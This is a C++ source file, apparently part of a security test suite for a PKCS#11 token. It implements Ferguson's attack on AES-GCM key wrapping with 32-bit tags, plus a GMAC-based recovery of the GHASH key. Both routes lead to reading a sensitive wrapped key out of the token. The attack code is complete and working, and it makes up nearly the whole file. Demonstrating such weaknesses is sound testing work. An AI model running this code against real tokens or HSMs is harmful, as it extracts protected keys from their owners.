// Ferguson's attack on GCM with short tags. Squaring is linear, so changes of the blocks that are multiplied
// by H^2, H^4, H^8 ... change the tag by a matrix times H, and the attacker chooses changes for which as many
// rows as possible are zero: they leave those bits of the tag alone, whatever H is. Each forgery that passes
// tells that the other rows times H are zero too, which leaves fewer H, and more rows to choose.
#include "tests/key_attacks_ghash.h"

#include <algorithm>
#include <bitset>

namespace coffer::story {

namespace {

constexpr std::size_t kBlockBytes = 16;
constexpr std::size_t kPowers = 16;                                   // H^2 to H^65536
constexpr std::size_t kUnknowns = 128 * kPowers;                      // bits that the attacker chooses
constexpr std::size_t kAssociatedBlocks = std::size_t{1} << kPowers;  // 1 MiB
constexpr std::size_t kTagBits = 32;
constexpr std::size_t kWrappedBytes = 32;
constexpr std::size_t kSpareDimensions = 64;  // of changes, so that there are enough to try

using Bits = std::bitset<kUnknowns>;

// Element is one of GF(2^128) as GCM writes it: the coefficient of 1 is the highest bit of the first octet.
struct Element {
  std::uint64_t high = 0;
  std::uint64_t low = 0;

  [[nodiscard]] bool bit(std::size_t at) const {
    return ((at < 64 ? high >> (63 - at) : low >> (127 - at)) & 1U) != 0;
  }
  void flip(std::size_t at) {
    if (at < 64)
      high ^= std::uint64_t{1} << (63 - at);
    else
      low ^= std::uint64_t{1} << (127 - at);
  }
  Element& operator^=(const Element& other) {
    high ^= other.high;
    low ^= other.low;
    return *this;
  }
};

// SP 800-38D, 6.3: times x, modulo x^128 + x^7 + x^2 + x + 1.
Element times_x(Element a) {
  const std::uint64_t reduce = (a.low & 1U) != 0 ? std::uint64_t{0xE1} << 56U : 0;
  return {(a.high >> 1U) ^ reduce, a.low >> 1U | a.high << 63U};
}

Element product(const Element& a, Element b) {
  Element sum;
  for (std::size_t i = 0; i < 128; ++i) {
    if (a.bit(i)) sum ^= b;
    b = times_x(b);
  }
  return sum;
}

Element element_of(const CK_BYTE* octets, std::size_t bytes) {
  Element element;
  for (std::size_t i = 0; i < 8 * bytes; ++i) {
    if ((octets[i / 8] >> (7 - i % 8) & 1U) != 0) element.flip(i);
  }
  return element;
}

void add(const Element& element, CK_BYTE* octets) {
  for (std::size_t i = 0; i < 128; ++i) {
    if (element.bit(i)) octets[i / 8] ^= static_cast<CK_BYTE>(0x80U >> (i % 8));
  }
}

// ghash hashes a ciphertext without associated data.
Element ghash(const Element& key, const Octets& text) {
  Element sum;
  for (std::size_t at = 0; at < text.size(); at += kBlockBytes) {
    sum ^= element_of(text.data() + at, std::min(kBlockBytes, text.size() - at));
    sum = product(sum, key);
  }
  sum ^= Element{0, 8 * text.size()};
  return product(sum, key);
}

// Change is what is added to the blocks of H^2, H^4, H^8 ...
using Change = std::vector<Element>;

Change change_of(const Bits& bits) {
  Change change(kPowers);
  for (std::size_t i = 0; i < kUnknowns; ++i) {
    if (bits[i]) change[i / 128].flip(i % 128);
  }
  return change;
}

// effect is what a change adds to the hash, were H this element.
Element effect(const Change& change, Element key) {
  Element sum;
  for (const Element& each : change) {
    key = product(key, key);
    sum ^= product(each, key);
  }
  return sum;
}

// kernel gives combinations of the rows that add up to zero.
std::vector<Bits> kernel(std::vector<Bits> rows) {
  std::vector<Bits> sums(rows.size());
  for (std::size_t i = 0; i < rows.size(); ++i) sums[i][i] = true;
  std::vector<std::size_t> pivot_row(kUnknowns, rows.size());
  std::vector<Bits> found;
  for (std::size_t i = 0; i < rows.size(); ++i) {
    std::size_t at = rows[i]._Find_first();
    while (at < kUnknowns && pivot_row[at] < rows.size()) {
      rows[i] ^= rows[pivot_row[at]];
      sums[i] ^= sums[pivot_row[at]];
      at = rows[i]._Find_next(at);
    }
    if (at < kUnknowns)
      pivot_row[at] = i;
    else
      found.push_back(sums[i]);
  }
  return found;
}

// quiet_changes gives changes that leave the first `tag_bits` of the tag alone, for every H in a space.
std::vector<Bits> quiet_changes(std::vector<Element> space, std::size_t tag_bits) {
  std::vector<Bits> rows(kUnknowns);
  const std::size_t dimensions = space.size();
  for (std::size_t power = 0; power < kPowers; ++power) {
    for (std::size_t column = 0; column < dimensions; ++column) {
      space[column] = product(space[column], space[column]);
      Element shifted = space[column];
      for (std::size_t bit = 0; bit < 128; ++bit) {
        Bits& row = rows[128 * power + bit];
        for (std::size_t i = 0; i < tag_bits; ++i) row[i * dimensions + column] = shifted.bit(i);
        shifted = times_x(shifted);
      }
    }
  }
  return kernel(std::move(rows));
}

// narrowed keeps the part of a space whose elements a change leaves without effect on the tag.
std::vector<Element> narrowed(const std::vector<Element>& space, const Change& change) {
  std::vector<Bits> rows;
  for (const Element& each : space) {
    const Element seen = effect(change, each);
    Bits row;
    for (std::size_t i = 0; i < kTagBits; ++i) row[i] = seen.bit(i);
    rows.push_back(row);
  }
  std::vector<Element> left;
  for (const Bits& combination : kernel(std::move(rows))) {
    Element sum;
    for (std::size_t i = 0; i < space.size(); ++i) {
      if (combination[i]) sum ^= space[i];
    }
    left.push_back(sum);
  }
  return left;
}

Bits random_sum(const std::vector<Bits>& changes) {
  const Octets chosen = random_octets(changes.size());
  Bits sum;
  for (std::size_t i = 0; i < changes.size(); ++i) {
    if ((chosen[i] & 1U) != 0) sum ^= changes[i];
  }
  return sum;
}

// Forger unwraps what it changed, with tags of 32 bits and 1 MiB of associated data.
class Forger {
 public:
  Forger(Attacker& attacker, CK_OBJECT_HANDLE wrapping, CK_OBJECT_HANDLE key)
      : attacker_(attacker), wrapping_(wrapping), wrapped_(kWrappedBytes + kTagBits / 8) {
    CK_ULONG bytes = wrapped_.size();
    attacker.step("C_WrapKey",
                  attacker->C_WrapKey(attacker.session(), &how_, wrapping, key, wrapped_.data(), &bytes));
  }
  Forger(const Forger&) = delete;
  Forger& operator=(const Forger&) = delete;

  bool passes(const Change& change) {
    apply(change);
    Template attributes = secret_template(CKK_GENERIC_SECRET);
    attributes.yes(CKA_SIGN);
    CK_OBJECT_HANDLE made = CK_INVALID_HANDLE;
    const CK_RV value =
        attacker_.note(attacker_->C_UnwrapKey(attacker_.session(), &how_, wrapping_, wrapped_.data(),
                                              wrapped_.size(), attributes.data(), attributes.size(), &made));
    apply(change);
    if (value == CKR_OK) attacker_.destroy(made);
    return value == CKR_OK;
  }

 private:
  // The last block of the ciphertext is multiplied by H^2, the last of the associated data by H^4.
  void apply(const Change& change) {
    add(change[0], wrapped_.data() + kBlockBytes);
    for (std::size_t i = 1; i < kPowers; ++i) {
      const std::size_t block = kAssociatedBlocks + 3 - (std::size_t{2} << i);
      add(change[i], associated_.data() + kBlockBytes * block);
    }
  }

  Attacker& attacker_;
  CK_OBJECT_HANDLE wrapping_;
  Octets wrapped_;
  Octets nonce_ = Octets(12);
  Octets associated_ = Octets(kBlockBytes * kAssociatedBlocks);
  CK_GCM_WRAP_PARAMS gcm_{nonce_.data(),      nonce_.size(),      0,       CKG_GENERATE_RANDOM,
                          associated_.data(), associated_.size(), kTagBits};
  CK_MECHANISM how_{CKM_AES_GCM, &gcm_, sizeof gcm_};
};

Element hash_key(Forger& forger) {
  std::vector<Element> space(128);
  for (std::size_t i = 0; i < space.size(); ++i) space[i].flip(i);
  while (space.size() > 1) {
    const std::size_t quiet = std::min(kTagBits - 1, (kUnknowns - kSpareDimensions) / space.size());
    const std::vector<Bits> changes = quiet_changes(space, quiet);
    Change change;
    std::size_t tries = 0;
    do {
      change = change_of(random_sum(changes));
      ++tries;
    } while (!forger.passes(change));
    space = narrowed(space, change);
    std::printf("%zu tries, %zu bits of the hash key are left\n", tries, space.size());
    std::fflush(stdout);
  }
  return space.front();
}

// Captured is a key wrapped with a tag of 128 bits.
class Captured {
 public:
  Captured(Attacker& attacker, CK_OBJECT_HANDLE wrapping, CK_OBJECT_HANDLE victim)
      : attacker_(attacker), wrapping_(wrapping), victim_(victim) {
    Octets wrapped(kWrappedBytes + kBlockBytes);
    CK_ULONG bytes = wrapped.size();
    attacker.step("C_WrapKey",
                  attacker->C_WrapKey(attacker.session(), &how_, wrapping, victim, wrapped.data(), &bytes));
    sealed_.assign(wrapped.begin(), wrapped.begin() + kWrappedBytes);
    tag_.assign(wrapped.begin() + kWrappedBytes, wrapped.end());
  }
  Captured(const Captured&) = delete;
  Captured& operator=(const Captured&) = delete;

  Octets nonce = Octets(12);

  // read ends the attack: with the hash key, each beginning of the ciphertext has a right tag.
  [[noreturn]] void read(const Element& key) {
    Octets mask = tag_;
    add(ghash(key, sealed_), mask.data());
    const auto beginning = [&](CK_ULONG length) {
      Octets piece(sealed_.begin(), sealed_.begin() + static_cast<std::ptrdiff_t>(length));
      Octets tag = mask;
      add(ghash(key, piece), tag.data());
      piece.insert(piece.end(), tag.begin(), tag.end());
      Template attributes = secret_template(CKK_GENERIC_SECRET);
      attributes.yes(CKA_SENSITIVE).yes(CKA_SIGN);
      CK_OBJECT_HANDLE made = CK_INVALID_HANDLE;
      attacker_.step("C_UnwrapKey",
                     attacker_->C_UnwrapKey(attacker_.session(), &how_, wrapping_, piece.data(), piece.size(),
                                            attributes.data(), attributes.size(), &made));
      return made;
    };
    const Octets found = read_by_length(attacker_, kWrappedBytes, beginning);
    const Octets text = random_octets(kBlockBytes);
    const Octets tag = attacker_.sign(victim_, {CKM_SHA256_HMAC, nullptr, 0}, text);
    attacker_.read_out("the key", found, tag == outside_hmac(found, text));
  }

 private:
  Attacker& attacker_;
  CK_OBJECT_HANDLE wrapping_;
  CK_OBJECT_HANDLE victim_;
  Octets sealed_;
  Octets tag_;
  CK_GCM_WRAP_PARAMS gcm_{nonce.data(), nonce.size(), 0, CKG_GENERATE_RANDOM, nullptr, 0, 128};
  CK_MECHANISM how_{CKM_AES_GCM, &gcm_, sizeof gcm_};
};

}  // namespace

[[noreturn]] void read_by_gmac(Attacker& attacker, CK_OBJECT_HANDLE wrapping, CK_OBJECT_HANDLE victim) {
  Captured captured(attacker, wrapping, victim);
  const CK_MECHANISM gmac{CKM_AES_GMAC, captured.nonce.data(), captured.nonce.size()};
  // Two texts of one block, whose difference is 1: the tags differ by H squared.
  Octets text(kBlockBytes);
  const Octets first = attacker.sign(wrapping, gmac, text);
  text.front() = 0x80;
  const Octets second = attacker.sign(wrapping, gmac, text);
  Element key = element_of(first.data(), kBlockBytes);
  key ^= element_of(second.data(), kBlockBytes);
  // The square root: squared 127 times, an element has been squared once less than takes it back to itself.
  for (int i = 0; i < 127; ++i) key = product(key, key);
  captured.read(key);
}

void forge_short_tags(Attacker& attacker) {
  const CK_OBJECT_HANDLE wrapping = wraps_only_key(attacker);
  Template attributes = secret_template(CKK_GENERIC_SECRET, kWrappedBytes);
  attributes.yes(CKA_SENSITIVE).yes(CKA_EXTRACTABLE).yes(CKA_SIGN);
  const CK_OBJECT_HANDLE victim = attacker.generate(CKM_GENERIC_SECRET_KEY_GEN, attributes);
  Forger forger(attacker, wrapping, attacker.generate(CKM_GENERIC_SECRET_KEY_GEN, attributes));
  const Element key = hash_key(forger);
  Captured(attacker, wrapping, victim).read(key);
}

}  // namespace coffer::story
